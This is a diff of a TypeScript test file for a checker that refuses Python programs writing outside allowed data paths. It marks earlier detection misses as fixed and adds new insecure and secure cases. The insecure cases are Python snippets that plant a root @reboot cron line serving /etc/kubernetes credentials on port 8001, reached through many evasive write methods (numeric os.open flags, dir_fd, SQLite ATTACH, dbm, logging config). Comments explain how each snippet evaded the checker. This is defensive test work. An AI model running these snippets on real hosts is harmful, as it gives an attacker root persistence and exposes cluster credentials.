@@ -47,7 +47,7 @@ const rpc = (name: string, lines: string[]) =>
     ]);
 
 const insecure: NodeCase[] = [
-    // MISS: Python docs "io" (class io.FileIO(name, mode='r'): "'r', 'w', 'x' or 'a' for reading (default), writing, exclusive creation or appending"): root writes the @reboot line root's cron runs (crontab(5): /etc/cron.d files run as the user they name), a server of /etc/kubernetes (the kubelet's credentials) on 0.0.0.0:8001 for every pod. pythonWriteRefusal (userData.ts) knows open/io.open/codecs.open/builtins.open only: got []. Fix: io.FileIO (and _io.FileIO, os.fdopen of a write fd) as open with its mode.
+    // Was a MISS (fixed in round 72): Python docs "io" (class io.FileIO(name, mode='r'): "'r', 'w', 'x' or 'a' for reading (default), writing, exclusive creation or appending"): root writes the @reboot line root's cron runs (crontab(5): /etc/cron.d files run as the user they name), a server of /etc/kubernetes (the kubelet's credentials) on 0.0.0.0:8001 for every pod. pythonWriteRefusal (userData.ts) knows open/io.open/codecs.open/builtins.open only: got []. Fix: io.FileIO (and _io.FileIO, os.fdopen of a write fd) as open with its mode.
     dev(
         "tune.py: io.FileIO('/etc/cron.d/ops', 'w') writes a cron line",
         tune("dev-py72t-fileio-nodes", [
@@ -55,9 +55,8 @@ const insecure: NodeCase[] = [
             'io.FileIO("/etc/cron.d/ops", "w").write(b"@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python docs "os.open(path, flags, mode=0o777, *, dir_fd=None)" with open(2)'s flags (Linux: O_WRONLY 01, O_CREAT 0100, O_TRUNC 01000: 577): the same cron line. pythonWriteRefusal (userData.ts)'s os.open branch takes flags matching /^[\s\w.|]+$/ with no O_WRONLY/O_RDWR/O_CREAT/O_APPEND/O_TRUNC name as read-only. Fix: flags are read-only only when every word is os.O_RDONLY or a read-only modifier (O_CLOEXEC, O_NOFOLLOW, O_DIRECTORY, O_NONBLOCK, O_NOATIME) or the literal 0; a number or a name fails closed.
+    // Was a MISS (fixed in round 72): Python docs "os.open(path, flags, mode=0o777, *, dir_fd=None)" with open(2)'s flags (Linux: O_WRONLY 01, O_CREAT 0100, O_TRUNC 01000: 577): the same cron line. pythonWriteRefusal (userData.ts)'s os.open branch takes flags matching /^[\s\w.|]+$/ with no O_WRONLY/O_RDWR/O_CREAT/O_APPEND/O_TRUNC name as read-only. Fix: flags are read-only only when every word is os.O_RDONLY or a read-only modifier (O_CLOEXEC, O_NOFOLLOW, O_DIRECTORY, O_NONBLOCK, O_NOATIME) or the literal 0; a number or a name fails closed.
     dev(
         "tune.py: os.open('/etc/cron.d/ops', 577) (O_WRONLY|O_CREAT|O_TRUNC as a number)",
         tune("dev-py72t-osopen-numeric-nodes", [
@@ -66,9 +65,8 @@ const insecure: NodeCase[] = [
             'os.write(fd, b"@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: same class: flags by a name (W = os.O_WRONLY | os.O_CREAT) read as no write. Fix as above (a name fails closed, or pythonValue its binding).
+    // Was a MISS (fixed in round 72): same class: flags by a name (W = os.O_WRONLY | os.O_CREAT) read as no write. Fix as above (a name fails closed, or pythonValue its binding).
     dev(
         "tune.py: os.open('/etc/cron.d/ops', W) with W = os.O_WRONLY | os.O_CREAT bound before",
         tune("dev-py72t-osopen-name-nodes", [
@@ -78,9 +76,8 @@ const insecure: NodeCase[] = [
             'os.write(fd, b"@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python docs "os" ("Paths relative to directory descriptors": with dir_fd "the path to operate on should be relative; path will then be relative to that directory"; openat(2)): the relative 'ops' is /etc/cron.d/ops. pythonWriteRefusal (userData.ts) resolves it against the launch directory (/var/lib/ops, a data path). Fix: a write call with dir_fd/src_dir_fd/dst_dir_fd (os.open, os.link, os.symlink, os.rename, os.replace, os.mkfifo) and a relative path fails closed.
+    // Was a MISS (fixed in round 72): Python docs "os" ("Paths relative to directory descriptors": with dir_fd "the path to operate on should be relative; path will then be relative to that directory"; openat(2)): the relative 'ops' is /etc/cron.d/ops. pythonWriteRefusal (userData.ts) resolves it against the launch directory (/var/lib/ops, a data path). Fix: a write call with dir_fd/src_dir_fd/dst_dir_fd (os.open, os.link, os.symlink, os.rename, os.replace, os.mkfifo) and a relative path fails closed.
     dev(
         "tune.py: os.open('ops', O_WRONLY|O_CREAT, dir_fd=os.open('/etc/cron.d', O_RDONLY)) from cwd /var/lib/ops",
         tune("dev-py72t-osopen-dirfd-nodes", [
@@ -90,9 +87,8 @@ const insecure: NodeCase[] = [
             'os.write(fd, b"@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python docs "os.chdir" ("Change the current working directory to path") then open('ops', 'w'): /etc/cron.d/ops. pythonWriteRefusal (userData.ts) is handed only the launch cwd (pythonCommandListeners already collects pythonChdirCalls bases for commands but passes `cwd`). Fix: judge each relative write target against every base pythonCommandListeners computes (an unknown base: fail closed).
+    // Was a MISS (fixed in round 72): Python docs "os.chdir" ("Change the current working directory to path") then open('ops', 'w'): /etc/cron.d/ops. pythonWriteRefusal (userData.ts) is handed only the launch cwd (pythonCommandListeners already collects pythonChdirCalls bases for commands but passes `cwd`). Fix: judge each relative write target against every base pythonCommandListeners computes (an unknown base: fail closed).
     dev(
         "tune.py: os.chdir('/etc/cron.d') then open('ops', 'w') (relative to the new directory)",
         tune("dev-py72t-chdir-open-nodes", [
@@ -102,7 +98,6 @@ const insecure: NodeCase[] = [
             '    f.write("@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
         ]),
         REFUSED,
-        true,
     ),
     // Was a MISS (fixed in round 72): Python docs "os.symlink(src, dst)" ("Create a symbolic link pointing to src named dst"), open(2) (the final component's symlink followed unless O_NOFOLLOW; fs.protected_symlinks, proc(5), only restricts sticky world-writable directories, not /var/lib/ops): the write of /var/lib/ops/out lands in /etc/cron.d/ops. pythonWriteRefusal (userData.ts) judges os.symlink's dst only. Fix: a link whose target (src) is no PROGRAM_DATA_PATHS path is a write of that target (or refuse a program making one).
     dev(
@@ -173,7 +168,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: Python docs "urllib.request.urlretrieve(url, filename=None)" ("Copy a network object denoted by a URL to a local file"): whoever serves (or spoofs DNS for) the URL writes root's cron file. pythonWriteRefusal (userData.ts) has no urlretrieve. Fix: its filename (second argument) is a write target (and urllib.request.URLopener.retrieve).
+    // Was a MISS (fixed in round 72): Python docs "urllib.request.urlretrieve(url, filename=None)" ("Copy a network object denoted by a URL to a local file"): whoever serves (or spoofs DNS for) the URL writes root's cron file. pythonWriteRefusal (userData.ts) has no urlretrieve. Fix: its filename (second argument) is a write target (and urllib.request.URLopener.retrieve).
     dev(
         "tune.py: urllib.request.urlretrieve(URL, '/etc/cron.d/ops') (a downloaded cron file)",
         tune("dev-py72t-urlretrieve-nodes", [
@@ -181,9 +176,8 @@ const insecure: NodeCase[] = [
             'urllib.request.urlretrieve("https://ops.example.com/cron", "/etc/cron.d/ops")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python docs "fileinput" ("if the keyword argument inplace=True is passed ... the file is moved to a backup file and standard output is directed to the input file"): print() rewrites /etc/crontab with the added line. pythonWriteRefusal (userData.ts) has no fileinput. Fix: fileinput.input/FileInput with inplace true (or not a literal False) writes each file it names (and its backup).
+    // Was a MISS (fixed in round 72): Python docs "fileinput" ("if the keyword argument inplace=True is passed ... the file is moved to a backup file and standard output is directed to the input file"): print() rewrites /etc/crontab with the added line. pythonWriteRefusal (userData.ts) has no fileinput. Fix: fileinput.input/FileInput with inplace true (or not a literal False) writes each file it names (and its backup).
     dev(
         "tune.py: fileinput.input('/etc/crontab', inplace=True) printing each line and a cron line",
         tune("dev-py72t-fileinput-inplace-nodes", [
@@ -194,9 +188,8 @@ const insecure: NodeCase[] = [
             '        print("@reboot root cd /etc/kubernetes && python3 -m http.server 8001")',
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python docs "sqlite3.connect(database)" ("The path to the database file to be opened", created when missing): root makes a file in /etc/cron.d holding the inserted line between its pages (cron parses its lines; sqlite's page format holds the text raw). Whether cronie runs that line is not proven here; it is outside PROGRAM_DATA_PATHS, which pythonWriteRefusal (userData.ts) promises. Fix: sqlite3.connect's database (not ':memory:', a `file:` URI's path) is a write target; likewise ATTACH DATABASE in a literal execute.
+    // Was a MISS (fixed in round 72): Python docs "sqlite3.connect(database)" ("The path to the database file to be opened", created when missing): root makes a file in /etc/cron.d holding the inserted line between its pages (cron parses its lines; sqlite's page format holds the text raw). Whether cronie runs that line is not proven here; it is outside PROGRAM_DATA_PATHS, which pythonWriteRefusal (userData.ts) promises. Fix: sqlite3.connect's database (not ':memory:', a `file:` URI's path) is a write target; likewise ATTACH DATABASE in a literal execute.
     dev(
         "tune.py: sqlite3.connect('/etc/cron.d/ops') (a database file in cron's directory)",
         tune("dev-py72t-sqlite-attach-nodes", [
@@ -207,9 +200,8 @@ const insecure: NodeCase[] = [
             "db.commit()",
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python docs "dbm.dumb.open(filename, flag='c')" ("The basename of the database file (without any specific extensions). When a dumbdbm database is created, files with .dat and .dir extensions are created"; CPython Lib/dbm/dumb.py _addval writes the value's bytes at offset 0 of the .dat, raw): /etc/cron.d/ops.dat holds exactly the cron line (cronie reads every file of /etc/cron.d whose name is no backup/rpm suffix). pythonWriteRefusal (userData.ts) has no dbm. Fix: dbm.open/dbm.dumb/gnu/ndbm.open and shelve.open name a write target (with every suffix a backend adds).
+    // Was a MISS (fixed in round 72): Python docs "dbm.dumb.open(filename, flag='c')" ("The basename of the database file (without any specific extensions). When a dumbdbm database is created, files with .dat and .dir extensions are created"; CPython Lib/dbm/dumb.py _addval writes the value's bytes at offset 0 of the .dat, raw): /etc/cron.d/ops.dat holds exactly the cron line (cronie reads every file of /etc/cron.d whose name is no backup/rpm suffix). pythonWriteRefusal (userData.ts) has no dbm. Fix: dbm.open/dbm.dumb/gnu/ndbm.open and shelve.open name a write target (with every suffix a backend adds).
     dev(
         "tune.py: dbm.dumb.open('/etc/cron.d/ops') (its .dat file holds the value's bytes as written)",
         tune("dev-py72t-dbm-dumb-nodes", [
@@ -219,9 +211,8 @@ const insecure: NodeCase[] = [
             "db.close()",
         ]),
         REFUSED,
-        true,
     ),
-    // MISS: Python docs "shelve.open(filename, flag='c')" ("The filename specified is the base filename for the underlying database"; dbm picks the backend, dbm.dumb when no other is built): same class as dbm-dumb. Fix as there.
+    // Was a MISS (fixed in round 72): Python docs "shelve.open(filename, flag='c')" ("The filename specified is the base filename for the underlying database"; dbm picks the backend, dbm.dumb when no other is built): same class as dbm-dumb. Fix as there.
     dev(
         "tune.py: shelve.open('/etc/cron.d/ops') (a dbm file written as root)",
         tune("dev-py72t-shelve-nodes", [
@@ -230,7 +221,6 @@ const insecure: NodeCase[] = [
             '    s["k"] = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001"',
         ]),
         REFUSED,
-        true,
     ),
     dev(
         "tune.py: mmap over os.open('/etc/crontab', os.O_RDWR) rewriting it",
@@ -243,7 +233,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: Python docs "logging.config" (dictConfig: a handler's "class" and "All other keys are passed through as keyword arguments to the handler's constructor"; a dict(...) call is a dict): a FileHandler appending to /etc/cron.d/ops whose log line is the cron line ('%(message)s'). pythonWriteRefusal (userData.ts)'s dictConfig branch finds filenames by a quoted `'filename':` key only, and pythonLoggingConfigUnread accepts the handler. Fix: a handler config that is not a dict display with literal keys fails closed (or read dict(...)'s keyword arguments).
+    // Was a MISS (fixed in round 72): Python docs "logging.config" (dictConfig: a handler's "class" and "All other keys are passed through as keyword arguments to the handler's constructor"; a dict(...) call is a dict): a FileHandler appending to /etc/cron.d/ops whose log line is the cron line ('%(message)s'). pythonWriteRefusal (userData.ts)'s dictConfig branch finds filenames by a quoted `'filename':` key only, and pythonLoggingConfigUnread accepts the handler. Fix: a handler config that is not a dict display with literal keys fails closed (or read dict(...)'s keyword arguments).
     dev(
         "tune.py: dictConfig whose handler is dict({'class': 'logging.FileHandler'}, filename='/etc/cron.d/ops')",
         tune("dev-py72t-dictconfig-dict-call-nodes", [
@@ -257,7 +247,6 @@ const insecure: NodeCase[] = [
             'logging.info("@reboot root cd /etc/kubernetes && python3 -m http.server 8001")',
         ]),
         REFUSED,
-        true,
     ),
     dev(
         "tune.py: os.replace(src='/var/lib/ops/new', dst='/etc/cron.d/ops') (keyword arguments)",
@@ -269,7 +258,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: same class as osopen-name (flags by a name, the fd handed to os.fdopen and shutil.copyfileobj). Fix as there.
+    // Was a MISS (fixed in round 72): same class as osopen-name (flags by a name, the fd handed to os.fdopen and shutil.copyfileobj). Fix as there.
     dev(
         "tune.py: shutil.copyfileobj(io.BytesIO(line), os.fdopen(os.open('/etc/cron.d/ops', FLAGS), 'wb')) with FLAGS by name",
         tune("dev-py72t-copyfileobj-nodes", [
@@ -278,7 +267,135 @@ const insecure: NodeCase[] = [
             'shutil.copyfileobj(io.BytesIO(b"@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n"), os.fdopen(os.open("/etc/cron.d/ops", FLAGS, 0o644), "wb"))',
         ]),
         REFUSED,
-        true,
+    ),
+    // Round 72 neighbours (pywrites) of the write-form fixes above, insecure side: PYTHON_WRITE_CALLS's modes, flags, SQL
+    // ATTACH/VACUUM INTO, os.chdir and dir_fd bases.
+    dev(
+        "tune.py: os.open('/etc/cron.d/ops', os.O_RDONLY | os.O_TRUNC) (open(2): Linux truncates even read-only)",
+        tune("dev-py72t-pw-ordonly-trunc-nodes", [
+            "import os",
+            'fd = os.open("/etc/cron.d/ops", os.O_RDONLY | os.O_TRUNC)',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: os.open('/etc/cron.d/ops', 1) (O_WRONLY as a number)",
+        tune("dev-py72t-pw-flags-one-nodes", [
+            "import os",
+            'fd = os.open("/etc/cron.d/ops", 1)',
+            'os.write(fd, b"@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: gzip.open('/etc/cron.d/ops', 'wb') (gzip.open's mode writes)",
+        tune("dev-py72t-pw-gzip-write-nodes", [
+            "import gzip",
+            'gzip.open("/etc/cron.d/ops", "wb").write(b"@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: ATTACH DATABASE '/etc/cron.d/ops' on a data-path connection",
+        tune("dev-py72t-pw-sqlite-attach-nodes", [
+            "import sqlite3",
+            'db = sqlite3.connect("/var/lib/ops/state.db")',
+            "db.execute(\"ATTACH DATABASE '/etc/cron.d/ops' AS x\")",
+            'db.execute("create table x.t(v)")',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: sqlite3.connect('file:/etc/cron.d/ops?mode=rwc', uri=True)",
+        tune("dev-py72t-pw-sqlite-uri-nodes", [
+            "import sqlite3",
+            'db = sqlite3.connect("file:/etc/cron.d/ops?mode=rwc", uri=True)',
+            'db.execute("create table t(v)")',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: fileinput.input([data file, '/etc/crontab'], inplace=1)",
+        tune("dev-py72t-pw-fileinput-list-nodes", [
+            "import fileinput",
+            'for line in fileinput.input(["/var/lib/ops/a", "/etc/crontab"], inplace=1):',
+            '    print(line, end="")',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: os.chdir('/etc/cron.d') then os.replace(data file, 'ops')",
+        tune("dev-py72t-pw-chdir-replace-nodes", [
+            "import os",
+            'open("/var/lib/ops/new", "w").write("x")',
+            'os.chdir("/etc/cron.d")',
+            'os.replace("/var/lib/ops/new", "ops")',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: os.rename('new', 'ops', src_dir_fd=, dst_dir_fd=) (relative to directory descriptors)",
+        tune("dev-py72t-pw-rename-dirfd-nodes", [
+            "import os",
+            'd = os.open("/etc/cron.d", os.O_RDONLY)',
+            's = os.open("/var/lib/ops", os.O_RDONLY)',
+            'os.rename("new", "ops", src_dir_fd=s, dst_dir_fd=d)',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: io.open('/etc/cron.d/ops', mode='a')",
+        tune("dev-py72t-pw-io-open-a-nodes", [
+            "import io",
+            'io.open("/etc/cron.d/ops", mode="a").write("@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: dbm.open('/etc/cron.d/ops', 'c')",
+        tune("dev-py72t-pw-dbm-open-c-nodes", [
+            "import dbm",
+            'db = dbm.open("/etc/cron.d/ops", "c")',
+            'db[b"k"] = b"@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n"',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: shelve.open('/etc/cron.d/ops', F) with F = 'c' (a flag by a name)",
+        tune("dev-py72t-pw-shelve-flag-name-nodes", [
+            "import shelve",
+            'F = "c"',
+            'shelve.open("/etc/cron.d/ops", F)["k"] = "x"',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: VACUUM INTO '/etc/cron.d/ops' (SQLite writes a database file there)",
+        tune("dev-py72t-pw-vacuum-into-nodes", [
+            "import sqlite3",
+            'db = sqlite3.connect("/var/lib/ops/state.db")',
+            "db.execute(\"VACUUM INTO '/etc/cron.d/ops'\")",
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: ATTACH DATABASE ? with the cron path as a parameter (a name the pack does not read)",
+        tune("dev-py72t-pw-attach-param-nodes", [
+            "import sqlite3",
+            'db = sqlite3.connect("/var/lib/ops/state.db")',
+            'db.execute("ATTACH DATABASE ? AS x", ("/etc/cron.d/ops",))',
+        ]),
+        REFUSED,
+    ),
+    dev(
+        "tune.py: os.fdopen(os.open('/etc/cron.d/ops', W), 'w') with W bound to O_WRONLY|O_CREAT",
+        tune("dev-py72t-pw-fdopen-name-nodes", [
+            "import os",
+            "W = os.O_WRONLY | os.O_CREAT",
+            'with os.fdopen(os.open("/etc/cron.d/ops", W), "w") as f:',
+            '    f.write("@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n")',
+        ]),
+        REFUSED,
     ),
     dev(
         "tune.py: (Path('/etc') / 'cron.d' / 'ops').write_text(cron line)",
@@ -922,7 +1039,7 @@ const insecure: NodeCase[] = [
 ];
 
 const secure: NodeCase[] = [
-    // MISS: secure refused. Python docs "gzip.open(filename, mode='rb')": a read of a data file. pythonWriteRefusal (userData.ts)'s pathlib `.open(` pass takes any `X.open(` call and reads its first argument as Path.open's mode: '/var/lib/ops/...' holds an 'a', so a write of a path it cannot compute (receiver `gzip`). Fix: the `.open(` pass only for receivers that may be a Path (a Path(...) call, a name bound to one, a `/` join); module functions (gzip, bz2, lzma, tarfile, webbrowser, dbm, shelve) by their own signatures.
+    // Was a MISS (fixed in round 72): secure refused. Python docs "gzip.open(filename, mode='rb')": a read of a data file. pythonWriteRefusal (userData.ts)'s pathlib `.open(` pass takes any `X.open(` call and reads its first argument as Path.open's mode: '/var/lib/ops/...' holds an 'a', so a write of a path it cannot compute (receiver `gzip`). Fix: the `.open(` pass only for receivers that may be a Path (a Path(...) call, a name bound to one, a `/` join); module functions (gzip, bz2, lzma, tarfile, webbrowser, dbm, shelve) by their own signatures.
     dev(
         "tune.py: json.load(gzip.open('/var/lib/ops/state.json.gz')) (a read: gzip.open's second argument is its mode)",
         tune("dev-py72s-gzip-read-nodes", [
@@ -931,7 +1048,159 @@ const secure: NodeCase[] = [
             "print(state)",
         ]),
         undefined,
-        true,
+    ),
+    // Round 72 neighbours (pywrites), secure side: provable reads (modes, O_RDONLY flags, mode=ro URIs, no inplace) and
+    // writes of PROGRAM_DATA_PATHS files by the same forms.
+    dev(
+        "tune.py: gzip.open(data file, 'rt') (a read)",
+        tune("dev-py72s-pw-gzip-rt-nodes", [
+            "import gzip",
+            'print(gzip.open("/var/lib/ops/state.json.gz", "rt").read())',
+        ]),
+    ),
+    dev(
+        "tune.py: gzip.open('/var/lib/ops/out.gz', 'wt') (a write of a data file)",
+        tune("dev-py72s-pw-gzip-write-data-nodes", [
+            "import gzip",
+            'gzip.open("/var/lib/ops/out.gz", "wt").write("ok")',
+        ]),
+    ),
+    dev(
+        "tune.py: os.open('/etc/hostname', os.O_RDONLY | os.O_CLOEXEC) (a read)",
+        tune("dev-py72s-pw-osopen-ro-nodes", [
+            "import os",
+            'fd = os.open("/etc/hostname", os.O_RDONLY | os.O_CLOEXEC)',
+            "print(os.read(fd, 64))",
+        ]),
+    ),
+    dev(
+        "tune.py: os.open('/etc/hostname', R) with R = os.O_RDONLY (a read by a name)",
+        tune("dev-py72s-pw-osopen-ro-name-nodes", [
+            "import os",
+            "R = os.O_RDONLY",
+            'fd = os.open("/etc/hostname", R)',
+            "print(os.read(fd, 64))",
+        ]),
+    ),
+    dev(
+        "tune.py: sqlite3.connect('file:/usr/share/ops/ref.db?mode=ro', uri=True) (read-only URI)",
+        tune("dev-py72s-pw-sqlite-uri-ro-nodes", [
+            "import sqlite3",
+            'db = sqlite3.connect("file:/usr/share/ops/ref.db?mode=ro", uri=True)',
+            'print(db.execute("select 1").fetchall())',
+        ]),
+    ),
+    dev(
+        "tune.py: sqlite3.connect(':memory:') (no file)",
+        tune("dev-py72s-pw-sqlite-memory-nodes", [
+            "import sqlite3",
+            'db = sqlite3.connect(":memory:")',
+            "db.execute(\"create table t(v text default 'x')\")",
+        ]),
+    ),
+    dev(
+        "tune.py: fileinput.input('/etc/hosts') (no inplace: a read)",
+        tune("dev-py72s-pw-fileinput-read-nodes", [
+            "import fileinput",
+            'for line in fileinput.input("/etc/hosts"):',
+            '    print(line, end="")',
+        ]),
+    ),
+    dev(
+        "tune.py: fileinput.input('/var/lib/ops/list', inplace=True) (a data file rewritten)",
+        tune("dev-py72s-pw-fileinput-data-nodes", [
+            "import fileinput",
+            'for line in fileinput.input("/var/lib/ops/list", inplace=True):',
+            "    print(line.strip())",
+        ]),
+    ),
+    dev(
+        "tune.py: os.chdir('/var/lib/ops/work') then open('out', 'w') (relative to a data directory)",
+        tune("dev-py72s-pw-chdir-data-nodes", [
+            "import os",
+            'os.makedirs("/var/lib/ops/work", exist_ok=True)',
+            'os.chdir("/var/lib/ops/work")',
+            'with open("out", "w") as f:',
+            '    f.write("ok")',
+        ]),
+    ),
+    dev(
+        "tune.py: shelve.open('/var/lib/ops/cache') (a data-path database)",
+        tune("dev-py72s-pw-shelve-data-nodes", [
+            "import shelve",
+            'with shelve.open("/var/lib/ops/cache") as s:',
+            '    s["k"] = 1',
+        ]),
+    ),
+    dev(
+        "tune.py: dbm.dumb.open('/usr/share/ops/db', 'r') (read-only)",
+        tune("dev-py72s-pw-dbm-dumb-read-nodes", [
+            "import dbm.dumb",
+            'db = dbm.dumb.open("/usr/share/ops/db", "r")',
+            'print(db.get(b"k"))',
+        ]),
+    ),
+    dev(
+        "tune.py: urlretrieve(URL, '/var/cache/ops/b.tgz') (a download into the cache)",
+        tune("dev-py72s-pw-urlretrieve-data-nodes", [
+            "import urllib.request",
+            'urllib.request.urlretrieve("https://ops.example.com/b.tgz", "/var/cache/ops/b.tgz")',
+        ]),
+    ),
+    dev(
+        "tune.py: io.FileIO('/var/lib/ops/out', 'w') (a data file)",
+        tune("dev-py72s-pw-fileio-data-nodes", ["import io", 'io.FileIO("/var/lib/ops/out", "w").write(b"ok")']),
+    ),
+    dev(
+        "tune.py: os.open('/var/lib/ops/out', W) with W = O_WRONLY|O_CREAT (a data file)",
+        tune("dev-py72s-pw-osopen-name-data-nodes", [
+            "import os",
+            "W = os.O_WRONLY | os.O_CREAT",
+            'fd = os.open("/var/lib/ops/out", W, 0o644)',
+            'os.write(fd, b"ok")',
+        ]),
+    ),
+    dev(
+        "tune.py: ATTACH DATABASE '/var/lib/ops/other.db' (a data file)",
+        tune("dev-py72s-pw-attach-data-nodes", [
+            "import sqlite3",
+            'db = sqlite3.connect("/var/lib/ops/state.db")',
+            "db.execute(\"ATTACH DATABASE '/var/lib/ops/other.db' AS o\")",
+        ]),
+    ),
+    dev(
+        "tune.py: os.open('hostname', os.O_RDONLY, dir_fd=d) (a read relative to a directory descriptor)",
+        tune("dev-py72s-pw-dirfd-read-nodes", [
+            "import os",
+            'd = os.open("/etc", os.O_RDONLY)',
+            'fd = os.open("hostname", os.O_RDONLY, dir_fd=d)',
+            "print(os.read(fd, 64))",
+        ]),
+    ),
+    dev(
+        "tune.py: Path('/var/lib/ops/x').mkdir(parents=True) (a data directory)",
+        tune("dev-py72s-pw-path-mkdir-data-nodes", [
+            "from pathlib import Path",
+            'Path("/var/lib/ops/x").mkdir(parents=True, exist_ok=True)',
+        ]),
+    ),
+    dev(
+        "tune.py: dictConfig FileHandler '/var/log/ops/ops.log' as a dict display",
+        tune("dev-py72s-pw-dictconfig-data-nodes", [
+            "import logging, logging.config",
+            'logging.config.dictConfig({"version": 1, "handlers": {"f": {"class": "logging.FileHandler", "filename": "/var/log/ops/ops.log"}}, "root": {"handlers": ["f"]}})',
+            'logging.info("x")',
+        ]),
+    ),
+    dev(
+        "tune.py: mkstemp(dir='/var/lib/ops'), os.fdopen(fd, 'w'), os.replace onto a data file",
+        tune("dev-py72s-pw-mkstemp-fdopen-nodes", [
+            "import os, tempfile",
+            'fd, p = tempfile.mkstemp(dir="/var/lib/ops")',
+            'with os.fdopen(fd, "w") as f:',
+            '    f.write("ok")',
+            'os.replace(p, "/var/lib/ops/state")',
+        ]),
     ),
     dev(
         "tune.py: json.dump(state, open('/var/lib/ops/state.json', 'w'))",
